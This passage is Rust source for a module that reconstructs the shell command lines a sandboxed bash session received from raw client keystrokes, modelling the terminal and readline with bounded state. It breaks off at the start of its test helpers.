//! Command lines rebuilt from the keystrokes a client sends to an interactive shell.
//!
//! Between the client's bytes and the command bash runs sit two editors Hermes cannot
//! observe: the terminal's line discipline, which swallows Ctrl-C, Ctrl-Z, Ctrl-\, Ctrl-S
//! and Ctrl-Q before the shell sees them, and readline, which turns arrows, kills, yanks and
//! history recall into the final line. This module models both as configured in the
//! sandbox (bash 5.2 on Debian 12: readline's emacs mode, Debian's `/etc/inputrc`,
//! bracketed paste on). What the model cannot follow exactly (completion, unknown keys,
//! incremental search) still yields a line, marked approximate, rather than nothing.
//!
//! Every input is attacker-controlled: all state is bounded and no input panics.

use std::collections::VecDeque;
use std::mem;

/// Longest line kept, in UTF-8 bytes; further input is dropped (and the line marked
/// approximate) so that one endless paste cannot grow memory without bound.
const MAX_LINE_BYTES: usize = 64 * 1024;
/// Longest killed text kept: kills come from the line, so one line's worth.
const MAX_KILL_BYTES: usize = MAX_LINE_BYTES;
/// History entries kept: the `HISTSIZE` Debian's default `.bashrc` sets.
const MAX_HISTORY_ENTRIES: usize = 1000;
/// History text kept, entries and their unsaved edits together: without it, 1000 lines
/// of 64 KiB would pin 64 MiB per session.
const MAX_HISTORY_BYTES: usize = 1024 * 1024;
/// History text one incremental-search key may scan, which bounds the work per input byte.
const MAX_SEARCH_SCAN_BYTES: usize = 4 * MAX_LINE_BYTES;
/// Parameter bytes kept from a CSI sequence; longer sequences are consumed as unknown.
const MAX_CSI_PARAMS: usize = 16;

const ESC: u8 = 0x1b;
/// Ends a bracketed paste (the terminal sends `ESC[200~` before pasted text).
const PASTE_END: &[u8] = b"\x1b[201~";

/// A line the user entered (Enter pressed), as the shell received it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EnteredLine {
    /// The command line as the shell's line editor handed it to the shell.
    pub text: String,
    /// best-effort: the line contained input we could not interpret exactly (tab
    /// completion, unknown escape sequences)
    pub approximate: bool,
}

/// Rebuilds the lines a shell's line editor produced from the raw bytes a client typed.
///
/// One per interactive session: the editor keeps what readline keeps between lines
/// (history, the kill buffer) and whatever a read split in the middle (an escape
/// sequence, a UTF-8 character, a bracketed paste).
#[derive(Debug, Default)]
pub struct LineEditor {
    decoder: Decoder,
    editor: Editor,
}

impl LineEditor {
    /// A session's editor: empty line, empty history.
    pub fn new() -> Self {
        Self::default()
    }

    /// Feeds client bytes; returns the lines completed by them, in order.
    pub fn feed(&mut self, bytes: &[u8]) -> Vec<EnteredLine> {
        let mut out = Vec::new();
        let Self { decoder, editor } = self;
        for &byte in bytes {
            match byte {
                // The terminal turns Ctrl-C into SIGINT, whatever readline was doing; bash
                // drops the line and starts a new one.
                0x03 => {
                    decoder.reset();
                    editor.interrupt();
                }
                // Ctrl-Q, Ctrl-S (flow control), Ctrl-Z, Ctrl-\ (signals bash ignores at its
                // prompt): taken by the terminal, never seen by readline.
                0x11 | 0x13 | 0x1a | 0x1c => {}
                _ if byte.is_ascii()
                    && editor.prefix == Prefix::QuotedInsert
                    && decoder.is_idle() =>
                {
                    editor.apply(Key::Char(char::from(byte)), &mut out);
                }
                _ => decoder.push(byte, &mut |key| editor.apply(key, &mut out)),
            }
        }
        out
    }

    /// The line being typed, not yet entered (for the end of a session).
    pub fn pending(&self) -> Option<EnteredLine> {
        let editor = &self.editor;
        let (text, approximate) = match editor.search.as_ref().and_then(|s| s.found) {
            Some((index, _)) => (
                editor.history.shown(index).unwrap_or_default().to_owned(),
                true,
            ),
            None => (editor.line_text(), editor.approximate),
        };
        // Unlike an entered line, an unfinished one ran nothing: report it only if it says
        // something.
        if text.chars().all(|c| is_blank(c) || c == '\n') {
            return None;
        }
        Some(EnteredLine { text, approximate })
    }
}

/// One key as readline dispatches it, decoded from the byte stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Key {
    /// A character to insert (printable, or any byte after quoted-insert).
    Char(char),
    /// A character of a bracketed paste: inserted, never executed.
    Paste(char),
    /// A C0 control byte or DEL.
    Control(u8),
    /// ESC followed by one byte: Alt/Meta plus a key.
    Meta(u8),
    /// `ESC [ params final`, cursor and editing keys.
    Csi(Sequence),
    /// `ESC O final`, cursor keys in application mode.
    Ss3 { final_byte: u8, meta: bool },
    /// A malformed or oversized escape sequence.
    Unknown,
}

/// A complete CSI sequence; `meta` when it followed another ESC (Alt plus the key).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Sequence {
    params: [u8; MAX_CSI_PARAMS],
    len: usize,
    final_byte: u8,
    meta: bool,
}

impl Sequence {
    fn params(&self) -> &[u8] {
        self.params.get(..self.len).unwrap_or_default()
    }
}

/// Where the byte decoder stands between two bytes, so that sequences may be split
/// across reads.
#[derive(Debug, Clone, Copy, Default)]
enum State {
    #[default]
    Ground,
    /// After ESC (`meta`: after ESC ESC).
    Escape { meta: bool },
    /// Inside `ESC [`.
    Csi {
        meta: bool,
        params: [u8; MAX_CSI_PARAMS],
        len: usize,
        overflow: bool,
    },
    /// After `ESC O`.
    Ss3 { meta: bool },
    /// Inside a bracketed paste; `matched` bytes of its end marker seen so far.
    Paste { matched: usize },
}

/// Turns bytes into keys: UTF-8, escape sequences and bracketed paste.
#[derive(Debug, Default)]
struct Decoder {
    state: State,
    utf8: Utf8,
}

impl Decoder {
    /// No sequence or character is half-read.
    fn is_idle(&self) -> bool {
        matches!(self.state, State::Ground) && self.utf8.is_empty()
    }

    fn reset(&mut self) {
        *self = Self::default();
    }

    fn push(&mut self, byte: u8, emit: &mut impl FnMut(Key)) {
        if !self.utf8.is_empty() {
            match self.utf8.push(byte) {
                Utf8Step::Pending => return,
                Utf8Step::Char(c) => return self.emit_char(c, emit),
                // The broken sequence stands for one U+FFFD; this byte starts afresh.
                Utf8Step::Broken => self.emit_char(char::REPLACEMENT_CHARACTER, emit),
            }
        }
        match self.state {
            State::Ground => self.ground(byte, emit),
            State::Escape { meta } => self.escape(byte, meta, emit),
            State::Csi {
                meta,
                mut params,
                mut len,
                mut overflow,
            } => match byte {
                0x20..=0x3f => {
                    match params.get_mut(len) {
                        Some(slot) => {
                            *slot = byte;
                            len += 1;
                        }
                        None => overflow = true,
                    }
                    self.state = State::Csi {
                        meta,
                        params,
                        len,
                        overflow,
                    };
                }
                0x40..=0x7e => {
                    self.state = State::Ground;
                    let sequence = Sequence {
                        params,
                        len,
                        final_byte: byte,
                        meta,
                    };
                    if overflow {
                        emit(Key::Unknown);
                    } else if sequence.params() == b"200" && byte == b'~' {
                        if meta {
                            emit(Key::Unknown);
                        }
                        self.state = State::Paste { matched: 0 };
                    } else {
                        emit(Key::Csi(sequence));
                    }
                }
                _ => {
                    self.state = State::Ground;
                    emit(Key::Unknown);
                    self.ground(byte, emit);
                }
            },
            State::Ss3 { meta } => {
                self.state = State::Ground;
                if (0x40..=0x7e).contains(&byte) {
                    emit(Key::Ss3 {
                        final_byte: byte,
                        meta,
                    });
                } else {
                    emit(Key::Unknown);
                    self.ground(byte, emit);
                }
            }
            State::Paste { matched } => self.paste(byte, matched, emit),
        }
    }

    fn ground(&mut self, byte: u8, emit: &mut impl FnMut(Key)) {
        match byte {
            ESC => self.state = State::Escape { meta: false },
            0x00..=0x1f | 0x7f => emit(Key::Control(byte)),
            0x20..=0x7e => emit(Key::Char(char::from(byte))),
            _ => {
                if let Some(c) = self.utf8.start(byte) {
                    emit(Key::Char(c));
                }
            }
        }
    }

    fn escape(&mut self, byte: u8, meta: bool, emit: &mut impl FnMut(Key)) {
        match byte {
            b'[' => {
                self.state = State::Csi {
                    meta,
                    params: [0; MAX_CSI_PARAMS],
                    len: 0,
                    overflow: false,
                }
            }
            b'O' => self.state = State::Ss3 { meta },
            ESC if !meta => self.state = State::Escape { meta: true },
            // ESC ESC then anything else: Meta-ESC (completion), then the key itself.
            _ if meta => {
                self.state = State::Ground;
                emit(Key::Meta(ESC));
                self.ground(byte, emit);
            }
            0x00..=0x7f => {
                self.state = State::Ground;
                emit(Key::Meta(byte));
            }
            _ => {
                self.state = State::Ground;
                emit(Key::Unknown);
                self.ground(byte, emit);
            }
        }
    }

    fn paste(&mut self, byte: u8, matched: usize, emit: &mut impl FnMut(Key)) {
        if PASTE_END.get(matched) == Some(&byte) {
            let matched = matched + 1;
            self.state = if matched == PASTE_END.len() {
                State::Ground
            } else {
                State::Paste { matched }
            };
            return;
        }
        // Not the end marker after all: what matched of it was pasted text.
        self.state = State::Paste { matched: 0 };
        for &earlier in PASTE_END.get(..matched).unwrap_or_default() {
            self.paste_byte(earlier, emit);
        }
        if byte == ESC {
            self.state = State::Paste { matched: 1 };
        } else {
            self.paste_byte(byte, emit);
        }
    }

    fn paste_byte(&mut self, byte: u8, emit: &mut impl FnMut(Key)) {
        match byte {
            // readline turns pasted CRs into newlines.
            b'\r' | b'\n' => emit(Key::Paste('\n')),
            b'\t' => emit(Key::Paste('\t')),
            0x00..=0x1f | 0x7f => {}
            0x20..=0x7e => emit(Key::Paste(char::from(byte))),
            _ => {
                if let Some(c) = self.utf8.start(byte) {
                    emit(Key::Paste(c));
                }
            }
        }
    }

    fn emit_char(&self, c: char, emit: &mut impl FnMut(Key)) {
        if matches!(self.state, State::Paste { .. }) {
            emit(Key::Paste(c));
        } else {
            emit(Key::Char(c));
        }
    }
}

/// A UTF-8 character whose bytes have not all arrived yet.
#[derive(Debug, Default)]
struct Utf8 {
    bytes: [u8; 4],
    len: usize,
    need: usize,
}

enum Utf8Step {
    Pending,
    Char(char),
    /// The byte cannot continue the character: the partial one is dropped.
    Broken,
}

impl Utf8 {
    fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Starts a character at a non-ASCII byte; a byte that cannot start one is U+FFFD.
    fn start(&mut self, byte: u8) -> Option<char> {
        self.need = match byte {
            0xc2..=0xdf => 2,
            0xe0..=0xef => 3,
            0xf0..=0xf4 => 4,
            _ => return Some(char::REPLACEMENT_CHARACTER),
        };
        self.bytes = [byte, 0, 0, 0];
        self.len = 1;
        None
    }

    fn push(&mut self, byte: u8) -> Utf8Step {
        if !(0x80..=0xbf).contains(&byte) {
            self.len = 0;
            return Utf8Step::Broken;
        }
        if let Some(slot) = self.bytes.get_mut(self.len) {
            *slot = byte;
        }
        self.len += 1;
        if self.len < self.need {
            return Utf8Step::Pending;
        }
        // Overlong forms and surrogates pass the checks above; from_utf8 rejects them.
        let c = self
            .bytes
            .get(..self.len)
            .and_then(|bytes| std::str::from_utf8(bytes).ok())
            .and_then(|text| text.chars().next())
            .unwrap_or(char::REPLACEMENT_CHARACTER);
        self.len = 0;
        Utf8Step::Char(c)
    }
}

/// The previous command, for readline's commands that behave differently when repeated.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
enum Last {
    #[default]
    Other,
    /// Consecutive kills accumulate into one kill-buffer entry.
    Kill,
    /// Ctrl-D right after Ctrl-D never ends the session.
    Eof,
    /// Repeated Alt-. replaces the argument it inserted (`len` chars) with an older one.
    YankArg { offset: usize, len: usize },
}

/// A key that changes what the next key means.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
enum Prefix {
    #[default]
    None,
    /// Ctrl-V, Insert: the next byte is inserted as is.
    QuotedInsert,
    /// Ctrl-X: a family of commands not modelled.
    CtlX,
    /// Ctrl-]: move to the next occurrence of the next character.
    CharSearch,
}

/// An incremental history search (Ctrl-R) in progress. The line being edited is left
/// untouched until the search ends.
#[derive(Debug)]
struct Search {
    query: Vec<char>,
    /// Matching history entry and char offset of the match in it.
    found: Option<(usize, usize)>,
    /// History position when the search began (`None`: the line being edited).
    origin: Option<usize>,
}

/// A history entry, as readline keeps it: an entry recalled and edited keeps the edit
/// when the user moves on without entering it, until it is recalled and entered.
#[derive(Debug)]
struct Entry {
    text: String,
    edited: Option<String>,
    approximate: bool,
}

impl Entry {
    fn shown(&self) -> &str {
        self.edited.as_deref().unwrap_or(&self.text)
    }

    fn size(&self) -> usize {
        self.text.len() + self.edited.as_ref().map_or(0, String::len)
    }
}

#[derive(Debug, Default)]
struct History {
    entries: VecDeque<Entry>,
    bytes: usize,
}

impl History {
    fn len(&self) -> usize {
        self.entries.len()
    }

    fn shown(&self, index: usize) -> Option<&str> {
        self.entries.get(index).map(Entry::shown)
    }

    /// Appends an entry; returns how many old ones were dropped to make room.
    fn push(&mut self, text: String, approximate: bool) -> usize {
        self.bytes += text.len();
        self.entries.push_back(Entry {
            text,
            edited: None,
            approximate,
        });
        let mut evicted = 0;
        while self.entries.len() > MAX_HISTORY_ENTRIES
            || (self.bytes > MAX_HISTORY_BYTES && self.entries.len() > 1)
        {
            let Some(old) = self.entries.pop_front() else {
                break;
            };
            self.bytes = self.bytes.saturating_sub(old.size());
            evicted += 1;
        }
        evicted
    }

    /// Records (or with `None`, reverts) an unsaved edit of an entry. False when the edit
    /// would not fit in the history's budget and was dropped.
    fn set_edit(&mut self, index: usize, edited: Option<String>, approximate: bool) -> bool {
        let Some(entry) = self.entries.get_mut(index) else {
            return false;
        };
        let old = entry.edited.as_ref().map_or(0, String::len);
        let new = edited.as_ref().map_or(0, String::len);
        let bytes = self.bytes.saturating_sub(old) + new;
        if bytes > MAX_HISTORY_BYTES {
            return false;
        }
        entry.approximate |= approximate && edited.is_some();
        entry.edited = edited;
        self.bytes = bytes;
        true
    }
}

/// readline's state: the line, the cursor, the kill buffer and the history.
#[derive(Debug, Default)]
struct Editor {
    line: Vec<char>,
    /// Index into `line`, in chars: `0..=line.len()`.
    cursor: usize,
    /// UTF-8 length of `line`, for the size bound.
    line_bytes: usize,
    approximate: bool,
    kill: Vec<char>,
    history: History,
    /// The history entry being shown, or `None` for the line being edited.
    browse: Option<usize>,
    /// The line being edited, while history entries are shown instead.
    saved_line: Option<Vec<char>>,
    /// What the current command was (set while it runs) and the previous one.
    last: Last,
    prev: Last,
    prefix: Prefix,
    search: Option<Search>,
    /// Ctrl-R on an empty search repeats the previous one.
    last_search: Vec<char>,
}

impl Editor {
    fn apply(&mut self, key: Key, out: &mut Vec<EnteredLine>) {
        self.prev = mem::replace(&mut self.last, Last::Other);
        match mem::take(&mut self.prefix) {
            Prefix::None => {}
            Prefix::QuotedInsert => {
                match key {
                    Key::Char(c) | Key::Paste(c) => self.insert(&[c]),
                    _ => self.approximate = true,
                }
                return;
            }
            Prefix::CtlX => {
                // Undo, edit-and-execute, macros...: unknown effect. An Enter is still
                // taken as one, so that no command goes unreported.
                self.approximate = true;
                if matches!(key, Key::Control(b'\r' | b'\n')) {
                    self.accept(out);
                }
                return;
            }
            Prefix::CharSearch => {
                match key {
                    Key::Char(c) | Key::Paste(c) => self.char_search(c),
                    _ => self.approximate = true,
                }
                return;
            }
        }
        if self.search.is_some() {
            self.search_key(key, out);
        } else {
            self.dispatch(key, out);
        }
    }

    fn dispatch(&mut self, key: Key, out: &mut Vec<EnteredLine>) {
        match key {
            Key::Char(c) | Key::Paste(c) => self.insert(&[c]),
            Key::Control(byte) => self.control(byte, out),
            Key::Meta(byte) => self.meta(byte),
            Key::Csi(sequence) => self.csi(sequence),
            Key::Ss3 { final_byte, meta } => self.ss3(final_byte, meta),
            Key::Unknown => self.approximate = true,
        }
    }

    fn control(&mut self, byte: u8, out: &mut Vec<EnteredLine>) {
        match byte {
            0x01 => self.cursor = 0,
            0x02 => self.cursor = self.cursor.saturating_sub(1),
            0x04 => self.ctrl_d(out),
            0x05 => self.cursor = self.line.len(),
            0x06 => self.cursor = (self.cursor + 1).min(self.line.len()),
            0x08 | 0x7f => self.backspace(),
            // Completion: its result shows only in the terminal's output.
            b'\t' => self.approximate = true,
            b'\n' | b'\r' => {
                self.accept(out);
            }
            0x0b => self.kill(self.cursor, self.line.len()),
            0x0e => self.next_history(),
            0x0f => self.operate_and_get_next(out),
            0x10 => self.previous_history(),
            0x12 => self.start_search(),
            0x14 => self.transpose_chars(),
            0x15 => self.kill(self.cursor, 0),
            0x16 => self.prefix = Prefix::QuotedInsert,
            0x17 => self.kill(self.cursor, self.blank_word_start()),
            0x18 => self.prefix = Prefix::CtlX,
            0x19 => self.yank(),
            0x1d => self.prefix = Prefix::CharSearch,
            // Undo.
            0x1f => self.approximate = true,
            // Set-mark, abort, clear-screen and unbound keys leave the line as it is.
            _ => {}
        }
    }

    fn meta(&mut self, byte: u8) {
        // readline maps Meta plus an unbound capital to the lowercase binding.
        match byte.to_ascii_lowercase() {
            b'b' => self.cursor = self.word_start(),
            b'f' => self.cursor = self.word_end(),
            b'd' => self.kill(self.cursor, self.word_end()),
            0x08 | 0x7f => self.kill(self.cursor, self.word_start()),
            b'<' => self.beginning_of_history(),
            b'>' => self.end_of_history(),
            b'.' | b'_' => self.yank_last_arg(),
            // Completion, case changes, transpositions, numeric arguments, vi mode...
            _ => self.approximate = true,
        }
    }

    fn csi(&mut self, sequence: Sequence) {
        if sequence.meta {
            // Debian's inputrc: ESC ESC [C and ESC ESC [D move by word.
            match (sequence.params(), sequence.final_byte) {
                (b"", b'C') => self.cursor = self.word_end(),
                (b"", b'D') => self.cursor = self.word_start(),
                _ => self.approximate = true,
            }
            return;
        }
        match (sequence.params(), sequence.final_byte) {
            (b"", b'A') => self.previous_history(),
            (b"", b'B') => self.next_history(),
            (b"", b'C') => self.cursor = (self.cursor + 1).min(self.line.len()),
            (b"", b'D') => self.cursor = self.cursor.saturating_sub(1),
            (b"", b'H') | (b"1", b'~') => self.cursor = 0,
            (b"", b'F') | (b"4", b'~') => self.cursor = self.line.len(),
            (b"1;5" | b"5", b'C') => self.cursor = self.word_end(),
            (b"1;5" | b"5", b'D') => self.cursor = self.word_start(),
            (b"3", b'~') => self.delete_char(),
            (b"2", b'~') => self.prefix = Prefix::QuotedInsert,
            _ => self.approximate = true,
        }
    }

    fn ss3(&mut self, final_byte: u8, meta: bool) {
        match (final_byte, meta) {
            (b'A', false) => self.previous_history(),
            (b'B', false) => self.next_history(),
            (b'C', false) => self.cursor = (self.cursor + 1).min(self.line.len()),
            (b'D', false) => self.cursor = self.cursor.saturating_sub(1),
            (b'H', false) => self.cursor = 0,
            (b'F', false) => self.cursor = self.line.len(),
            _ => self.approximate = true,
        }
    }

    // Editing primitives: every change to `line` goes through these three, which keep
    // `cursor` and `line_bytes` consistent and the size bound enforced.

    /// Inserts at the cursor as much as fits in the line's bound.
    fn insert(&mut self, chars: &[char]) {
        let mut bytes = 0;
        let mut fitting = 0;
        for c in chars {
            if self.line_bytes + bytes + c.len_utf8() > MAX_LINE_BYTES {
                self.approximate = true;
                break;
            }
            bytes += c.len_utf8();
            fitting += 1;
        }
        if fitting == 0 {
            return;
        }
        let at = self.cursor.min(self.line.len());
        let accepted = chars.get(..fitting).unwrap_or_default();
        self.line.splice(at..at, accepted.iter().copied());
        self.cursor = at + fitting;
        self.line_bytes += bytes;
    }

    /// Removes `start..end` and leaves the cursor at `start`.
    fn remove(&mut self, start: usize, end: usize) -> Vec<char> {
        let end = end.min(self.line.len());
        let start = start.min(end);
        let removed: Vec<char> = self.line.drain(start..end).collect();
        let bytes: usize = removed.iter().map(|c| c.len_utf8()).sum();
        self.line_bytes = self.line_bytes.saturating_sub(bytes);
        self.cursor = start;
        removed
    }

    fn set_line(&mut self, line: Vec<char>) {
        self.line_bytes = line.iter().map(|c| c.len_utf8()).sum();
        self.line = line;
        self.cursor = self.line.len();
    }

    fn line_text(&self) -> String {
        self.line.iter().collect()
    }

    fn backspace(&mut self) {
        if self.cursor > 0 {
            self.remove(self.cursor - 1, self.cursor);
        }
    }

    fn delete_char(&mut self) {
        if self.cursor < self.line.len() {
            self.remove(self.cursor, self.cursor + 1);
        }
    }

    fn ctrl_d(&mut self, out: &mut Vec<EnteredLine>) {
        // On an empty line, end of input: bash says "exit" and leaves. Not when the
        // previous key was Ctrl-D too (readline's guard against one key too many).
        if self.line.is_empty() && self.prev != Last::Eof {
            let approximate = self.approximate;
            self.reset_line();
            out.push(EnteredLine {
                text: "exit".to_owned(),
                approximate,
            });
            return;
        }
        self.delete_char();
        self.last = Last::Eof;
    }

    fn transpose_chars(&mut self) {
        let len = self.line.len();
        if self.cursor == 0 || len < 2 {
            return;
        }
        // At the end of the line, the last two characters swap.
        self.cursor = self.cursor.min(len - 1);
        self.line.swap(self.cursor - 1, self.cursor);
        self.cursor += 1;
    }

    fn char_search(&mut self, target: char) {
        let from = self.cursor + 1;
        let found = self.line.iter().skip(from).position(|&c| c == target);
        if let Some(offset) = found {
            self.cursor = from + offset;
        }
    }

    // Words: readline's words are runs of alphanumerics; Ctrl-W's are runs of non-blanks.

    fn is_word_at(&self, index: usize) -> bool {
        self.line.get(index).is_some_and(|c| c.is_alphanumeric())
    }

    fn word_start(&self) -> usize {
        let mut at = self.cursor.min(self.line.len());
        while at > 0 && !self.is_word_at(at - 1) {
            at -= 1;
        }
        while at > 0 && self.is_word_at(at - 1) {
            at -= 1;
        }
        at
    }

    fn word_end(&self) -> usize {
        let len = self.line.len();
        let mut at = self.cursor.min(len);
        while at < len && !self.is_word_at(at) {
            at += 1;
        }
        while at < len && self.is_word_at(at) {
            at += 1;
        }
        at
    }

    fn blank_word_start(&self) -> usize {
        let blank_at = |index: usize| self.line.get(index).is_some_and(|&c| is_blank(c));
        let mut at = self.cursor.min(self.line.len());
        while at > 0 && blank_at(at - 1) {
            at -= 1;
        }
        while at > 0 && !blank_at(at - 1) {
            at -= 1;
        }
        at
    }

    /// Kills `from..to` (either order) into the kill buffer. Right after another kill the
    /// text joins the previous one: appended when killing forward, prepended backward.
    fn kill(&mut self, from: usize, to: usize) {
        self.last = Last::Kill;
        if from == to {
            return;
        }
        let mut text = self.remove(from.min(to), from.max(to));
        if self.prev == Last::Kill {
            if from < to {
                let mut joined = mem::take(&mut self.kill);
                joined.append(&mut text);
                text = joined;
            } else {
                text.extend_from_slice(&self.kill);
            }
        }
        let mut bytes = 0;
        let fitting = text
            .iter()
            .take_while(|c| {
                bytes += c.len_utf8();
                bytes <= MAX_KILL_BYTES
            })
            .count();
        text.truncate(fitting);
        self.kill = text;
    }

    fn yank(&mut self) {
        let text = mem::take(&mut self.kill);
        self.insert(&text);
        self.kill = text;
    }

    /// Alt-.: inserts the last word of the previous history entry; repeated, replaces it
    /// with the last word of the entry before. Words are split on blanks only, where
    /// readline also splits on shell operators and honours quotes: approximate.
    fn yank_last_arg(&mut self) {
        self.approximate = true;
        let offset = match self.prev {
            Last::YankArg { offset, len } => {
                self.remove(self.cursor.saturating_sub(len), self.cursor);
                offset + 1
            }
            _ => 1,
        };
        let base = self.browse.unwrap_or(self.history.len());
        let word: Vec<char> = base
            .checked_sub(offset)
            .and_then(|index| self.history.shown(index))
            .and_then(|text| {
                text.split(|c| is_blank(c) || c == '\n')
                    .rfind(|word| !word.is_empty())
            })
            .map(|word| word.chars().collect())
            .unwrap_or_default();
        let before = self.line.len();
        self.insert(&word);
        self.last = Last::YankArg {
            offset,
            len: self.line.len() - before,
        };
    }

    // History browsing.

    /// Shows history entry `index` (with its unsaved edit, if any), cursor at the end.
    fn load(&mut self, index: usize) {
        let Some(entry) = self.history.entries.get(index) else {
            return;
        };
        let line = entry.shown().chars().collect();
        self.approximate |= entry.approximate;
        self.browse = Some(index);
        self.set_line(line);
    }

    /// Before moving away from a shown entry: keep the edit made to it, as readline does.
    fn leave_entry(&mut self) {
        let Some(index) = self.browse else {
            return;
        };
        let text = self.line_text();
        let original = self.history.entries.get(index).map(|e| e.text.as_str());
        let edit = (original != Some(text.as_str())).then_some(text);
        if !self.history.set_edit(index, edit, self.approximate) {
            self.approximate = true;
        }
    }

    /// Shows the line being edited again, as it was before browsing began.
    fn restore_saved_line(&mut self) {
        self.browse = None;
        let line = self.saved_line.take().unwrap_or_default();
        self.set_line(line);
    }

    fn start_browsing(&mut self) {
        if self.browse.is_some() {
            self.leave_entry();
        } else {
            self.saved_line = Some(self.line.clone());
        }
    }

    fn previous_history(&mut self) {
        let position = self.browse.unwrap_or(self.history.len());
        if position == 0 {
            return;
        }
        self.start_browsing();
        self.load(position - 1);
    }

    fn next_history(&mut self) {
        let Some(index) = self.browse else {
            return;
        };
        self.leave_entry();
        if index + 1 < self.history.len() {
            self.load(index + 1);
        } else {
            self.restore_saved_line();
        }
    }

    fn beginning_of_history(&mut self) {
        if self.history.len() == 0 {
            return;
        }
        self.start_browsing();
        self.load(0);
    }

    fn end_of_history(&mut self) {
        if self.browse.is_some() {
            self.leave_entry();
            self.restore_saved_line();
        }
    }

    // Ending a line.

    /// Enter: hands the line to the shell. Returns how many history entries were dropped
    /// to make room for it.
    fn accept(&mut self, out: &mut Vec<EnteredLine>) -> usize {
        let text = self.line_text();
        let approximate = self.approximate;
        // The entry recalled and entered gets its original text back; the entered text
        // becomes a new entry.
        if let Some(index) = self.browse {
            self.history.set_edit(index, None, false);
        }
        // A multi-line paste is one entry, recalled whole, as in bash.
        let evicted = if text.is_empty() {
            0
        } else {
            self.history.push(text.clone(), approximate)
        };
        report(&text, approximate, out);
        self.reset_line();
        evicted
    }

    /// Ctrl-O: enters the line, then shows the history entry after the one entered.
    fn operate_and_get_next(&mut self, out: &mut Vec<EnteredLine>) {
        let next = self.browse.map(|index| index + 1);
        let evicted = self.accept(out);
        if let Some(index) = next.and_then(|index| index.checked_sub(evicted))
            && index < self.history.len()
        {
            self.saved_line = Some(Vec::new());
            self.load(index);
        }
    }

    fn interrupt(&mut self) {
        self.reset_line();
    }

    fn reset_line(&mut self) {
        self.line.clear();
        self.cursor = 0;
        self.line_bytes = 0;
        self.approximate = false;
        self.browse = None;
        self.saved_line = None;
        self.search = None;
        self.prefix = Prefix::None;
        self.last = Last::Other;
    }

    // Incremental search (Ctrl-R). Modelled on whole entries where readline also tracks
    // positions within them, and never searching the line being edited: approximate.

    fn start_search(&mut self) {
        self.approximate = true;
        self.leave_entry();
        self.search = Some(Search {
            query: Vec::new(),
            found: None,
            origin: self.browse,
        });
    }

    fn search_key(&mut self, key: Key, out: &mut Vec<EnteredLine>) {
        match key {
            Key::Char(c) | Key::Paste(c) => {
                // A longer query could not match any entry: stop growing.
                if let Some(search) = &mut self.search
                    && search.query.len() < MAX_LINE_BYTES
                {
                    search.query.push(c);
                }
                self.search_history(true);
            }
            Key::Control(0x12) => self.search_history(false),
            Key::Control(0x08 | 0x7f) => {
                if let Some(search) = &mut self.search {
                    search.query.pop();
                }
                self.search_history(true);
            }
            // Ctrl-G: back to the line as it was.
            Key::Control(0x07) => self.search = None,
            // Ctrl-W, Ctrl-Y: pull text into the search string; not modelled.
            Key::Control(0x17 | 0x19) => {}
            // Ctrl-J ends the search without running anything.
            Key::Control(b'\n') => self.finish_search(),
            // Any other key ends the search on the match, then does what it does.
            _ => {
                self.finish_search();
                self.dispatch(key, out);
            }
        }
    }

    /// Looks for the query in older entries: from the current match on (`here`), or past
    /// it (Ctrl-R again).
    fn search_history(&mut self, here: bool) {
        let Some(search) = &mut self.search else {
            return;
        };
        if search.query.is_empty() && !here {
            search.query.clone_from(&self.last_search);
        }
        if search.query.is_empty() {
            return;
        }
        let query: String = search.query.iter().collect();
        // Like readline, never stop twice on the same text.
        let current = search.found.map(|(index, _)| index);
        let current_text = current.and_then(|index| self.history.shown(index));
        let below = match search.found {
            Some((index, _)) if here => index + 1,
            Some((index, _)) => index,
            None => search.origin.unwrap_or(self.history.len()),
        };
        let mut scanned = 0;
        for index in (0..below.min(self.history.len())).rev() {
            let Some(text) = self.history.shown(index) else {
                continue;
            };
            if Some(index) != current && Some(text) == current_text {
                continue;
            }
            if let Some(at) = text.rfind(&query) {
                let offset = text.get(..at).map_or(0, |before| before.chars().count());
                search.found = Some((index, offset));
                return;
            }
            scanned += text.len();
            if scanned > MAX_SEARCH_SCAN_BYTES {
                return;
            }
        }
    }

    /// Ends the search showing the match (if any), cursor on it.
    fn finish_search(&mut self) {
        let Some(search) = self.search.take() else {
            return;
        };
        if !search.query.is_empty() {
            self.last_search = search.query;
        }
        if let Some((index, offset)) = search.found {
            if self.browse.is_none() {
                self.saved_line = Some(self.line.clone());
            }
            self.load(index);
            self.cursor = offset.min(self.line.len());
        }
    }
}

/// Adds what the shell runs for an entered line: each of its lines (a paste may hold
/// several) that is not blank. An approximate line is reported even if blank: the shell
/// did get something.
fn report(text: &str, approximate: bool, out: &mut Vec<EnteredLine>) {
    let before = out.len();
    for part in text.split('\n') {
        if !part.chars().all(is_blank) {
            out.push(EnteredLine {
                text: part.to_owned(),
                approximate,
            });
        }
    }
    if out.len() == before && approximate {
        out.push(EnteredLine {
            text: text.to_owned(),
            approximate,
        });
    }
}

/// readline's and the shell's blanks.
fn is_blank(c: char) -> bool {
    c == ' ' || c == '\t'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exact(text: &str) -> EnteredLine {
        EnteredLine {
            text: text.to_owned(),
            approximate: false,
        }
    }

    fn approx(text: &str) -> EnteredLine {
        EnteredLine {
            text: text.to_owned(),
            approximate: true,
        }
    }

    /// The texts of the lines entered by `input`, fed whole to a new editor.
    fn texts(input: &[u8]) -> Vec<String> {
        LineEditor::new()
            .feed(input)
            .into_iter()
            .map(|line| line.text)
            .collect()
    }

    fn check_invariants(editor: &LineEditor) {
        let e = &editor.editor;
        assert!(e.cursor <= e.line.len());
        let bytes: usize = e.line.iter().map(|c| c.len_utf8()).sum();
        assert_eq!(e.line_bytes, bytes);
        assert!(e.line_bytes <= MAX_LINE_BYTES);
        assert!(e.kill.iter().map(|c| c.len_utf8()).sum::<usize>() <= MAX_KILL_BYTES);
        assert!(e.history.len() <= MAX_HISTORY_ENTRIES);
        let history_bytes: usize = e.history.entries.iter().map(Entry::size).sum();
        assert_eq!(e.history.bytes, history_bytes);
        assert!(e.history.bytes <= MAX_HISTORY_BYTES);
        if let Some(index) = e.browse {
            assert!(index < e.history.len());
        }
    }

    /// Runs `input` in the given pieces; returns the lines entered and what is left.
    fn run_pieces<'a>(
